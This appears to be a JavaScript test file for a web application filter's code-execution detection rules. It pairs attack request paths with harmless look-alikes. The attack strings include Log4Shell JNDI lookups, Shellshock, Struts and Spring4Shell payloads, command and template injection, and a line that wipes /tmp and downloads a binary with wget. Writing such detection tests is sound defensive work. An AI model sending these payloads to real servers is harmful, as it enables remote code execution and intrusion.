import { equal } from 'node:assert/strict'
import { test } from 'node:test'
import { CODE_EXECUTION_RULES, definesBashFunction } from '../../src/rules/code-execution.js'
import { request, testTwins } from './twins.js'

testTwins(CODE_EXECUTION_RULES, request, [
  {
    id: 'http-log4shell',
    attack: [
      '/?x=${jndi:ldap://198.51.100.9/a}',
      '/%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2F198.51.100.9%7D',
    ],
    ordinary: ['/price?currency=$', '/docs/jndi-lookups'],
  },
  {
    id: 'http-shellshock',
    attack: ['/cgi-bin/x?()%20%7B%20:;};%20/bin/id'],
    ordinary: ['/x?cb=f()', '/search?q=arrow%20functions%20()'],
  },
  {
    id: 'http-shell-line',
    attack: [
      '/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.9/arm7;chmod+777+arm7',
      '/x?y=`busybox%20tftp`',
      '/a?b=wget${IFS}http://198.51.100.9',
    ],
    ordinary: ['/man/wget', '/search?q=curl+up+with+a+book', '/blog/chmod-explained'],
  },
  {
    id: 'http-command-injection',
    attack: ['/ping?host=8.8.8.8;id', '/x?f=a|cat%20b', '/x?f=%60uname%60', '/x?a=$(whoami)'],
    ordinary: ['/a;id=3', '/search?q=rock%20%26%20roll', '/x?f=a|b|c', '/x;type.html'],
  },
  {
    id: 'http-system-program',
    attack: ['/x?c=cat%20/var/x', '/x?c=/usr/bin/id', '/x?c=dir%20c:'],
    ordinary: ['/cat/pictures', '/binary-id.html', '/list?sort=id>'],
  },
  {
    id: 'http-batch-loop',
    attack: ['/x?a=for+/f+%22tokens%3D1%22+%25i+in+(%27dir%27)+do+echo+%25i'],
    ordinary: ['/search?q=what+to+do+in+paris', '/search?q=for+rent+in+rome'],
  },
  {
    id: 'http-php-code',
    attack: ['/x?a=<?php%20echo%201;', '/x?cmd=system(%27id%27)', '/x?a=phpinfo()'],
    ordinary: ['/php/manual/system', '/search?q=file+system+(ext4)'],
  },
  {
    id: 'http-java-code',
    attack: [
      '/x.action?a=%25%7B(%23_memberAccess)%7D',
      '/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x',
    ],
    ordinary: ['/javadoc/index.html', '/blog/runtime-costs'],
  },
  {
    id: 'http-template-injection',
    attack: ['/x?name={{7*7}}', '/x?name=${7*7}', '/x?n={{config.items()}}'],
    ordinary: ['/x?name={{first_name}}', '/tpl/{{ url }}'],
  },
  {
    id: 'http-answer-forgery',
    attack: ['/x?a=<!--%23exec%20cmd=%22ls%22-->', '/x?u=a%0d%0aSet-Cookie:%20b=1'],
    ordinary: ['/docs/set-cookie', '/x?a=response'],
  },
])

test('a definition of bash begins a value, a function of script does not', () => {
  equal(definesBashFunction('() { :;}; /bin/id'), true)
  equal(definesBashFunction('(){ :;}'), true)
  equal(definesBashFunction('() _[x]'), true)
  equal(definesBashFunction('function() { return 1 }'), false)
  equal(definesBashFunction('f()'), false)
})
